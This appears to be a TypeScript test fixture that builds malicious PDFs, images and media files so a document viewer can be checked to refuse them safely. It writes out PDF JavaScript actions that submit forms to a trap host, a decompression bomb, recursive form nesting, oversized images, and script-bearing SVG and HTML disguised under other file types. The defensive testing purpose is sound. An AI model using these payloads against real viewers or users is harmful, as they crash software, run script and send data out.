// PDFs, pictures and sound made to harm their viewer. Each must be shown or refused, and none may have an effect.
import { crc32, deflateSync } from 'node:zlib';
import { TRAP } from '../hostile.fixture.ts';
import { firstExtra, pdfData, type PdfParts, pdfText } from './pdf/pdf.fixture.ts';

const base64 = (bytes: Uint8Array | string): string => Buffer.from(bytes as string, 'latin1').toString('base64');
const as = (type: string, bytes: Uint8Array | string): string => `data:${type};base64,${base64(bytes)}`;

const one = { pages: [['READ_ME']] };
const extra = firstExtra(one);
const script = `<< /S /JavaScript /JS (app.alert\\(1\\); globalThis.pwned = 1; this.submitForm\\("${TRAP}"\\)) >>`;

/** Deflated twice, so that a few KiB become a GiB. */
function bomb(): string {
  const data = deflateSync(deflateSync(Buffer.alloc(256 * 1024 * 1024, 0x20))).toString('latin1');
  return `<< /Length ${data.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n${data}\nendstream`;
}

/** Each form draws the next one ten times. */
const laughs = (depth: number): string[] =>
  Array.from({ length: depth }, (_, at) => {
    const draws = at === depth - 1 ? '0 0 1 1 re f' : '/X Do '.repeat(10);
    const next = at === depth - 1 ? '' : `/XObject << /X ${extra + at + 1} 0 R >>`;
    return `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << ${next} >> /Length ${draws.length} >>\nstream\n${draws}\nendstream`;
  });

const PDFS: Record<string, PdfParts> = {
  'actions, forms and links': {
    ...one,
    catalog: `/OpenAction ${script} /AA << /WC ${script} >> /AcroForm << /Fields [${extra} 0 R] /XFA (<xdp/>) >>`,
    page: `/AA << /O ${script} >> /Annots [${extra} 0 R ${extra + 1} 0 R]`,
    extra: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (typed) /Rect [60 500 300 520] /AA << /K ${script} >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${TRAP}/pdf) >> >>`,
    ],
  },
  'an enormous page': { ...one, size: [2_000_000, 3] },
  'forms within forms': {
    ...one,
    draws: '/X Do',
    page: `/Resources << /Font << /F1 3 0 R >> /XObject << /X ${extra} 0 R >> >>`,
    extra: laughs(9),
  },
  'a bomb': { ...one, page: `/Contents ${extra} 0 R`, extra: [bomb()] },
};

/** What the page says or shows of each. */
export const HOSTILE_PDFS: Record<string, string> = {
  ...Object.fromEntries(Object.entries(PDFS).map(([name, parts]) => [name, pdfData(parts)])),
  'a million pages': as('application/pdf', pdfText(one).replace('/Count 1', '/Count 1000000')),
  'pages in a circle': as('application/pdf', pdfText(one).replace('/Kids [4 0 R]', '/Kids [2 0 R]')),
  'no table of objects': as('application/pdf', pdfText(one).slice(0, 300)),
  'only its first bytes': as('application/pdf', '%PDF-1.7\n'),
  'HTML instead': as('application/pdf', '<script>globalThis.pwned=1</script>'),
};

function chunk(type: string, data: Uint8Array): Buffer {
  const named = Buffer.concat([Buffer.from(type), data]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, check]);
}

/** A black picture with one bit a pixel: a few KiB, however many pixels. `isWhite` says which pixels are white. */
export function png(width: number, height: number, isWhite?: (x: number, y: number) => boolean): string {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const line = 1 + Math.ceil(width / 8);
  const pixels = Buffer.alloc(height * line);
  for (let at = 0; isWhite !== undefined && at < width * height; at += 1) {
    const [x, y] = [at % width, Math.floor(at / width)];
    const place = y * line + 1 + Math.floor(x / 8);
    if (isWhite(x, y)) pixels[place] = (pixels[place] ?? 0) | (0x80 >> (x % 8));
  }
  const rows = deflateSync(pixels, { level: 9 });
  const parts = [chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))];
  return as('image/png', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...parts]));
}

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.pwned=1"><image href="${TRAP}/i"/></svg>`;

/** Files that are not what they say, each with what its reader is told. */
export const HOSTILE_FILES: Record<string, { file: string; says: string }> = {
  'a picture of too many pixels': { file: png(12_000, 12_000), says: '12,000 × 12,000 pixels are too many' },
  'a picture that no browser decodes': { file: png(30_000, 30_000), says: "Can't display this image." },
  'a picture that is HTML': {
    file: as('image/png', '<script>globalThis.pwned=1</script>'),
    says: "Can't display this image.",
  },
  'a picture that is a drawing with a script': { file: as('image/png', SVG), says: "Can't display this image." },
  'sound that is HTML': {
    file: as('audio/mpeg', `<img src="${TRAP}/s" onerror="globalThis.pwned=1">`.repeat(9)),
    says: "Can't play this audio.",
  },
  'video that is a picture': { file: png(8, 8).replace('image/png', 'video/mp4'), says: "Can't play this video." },
};
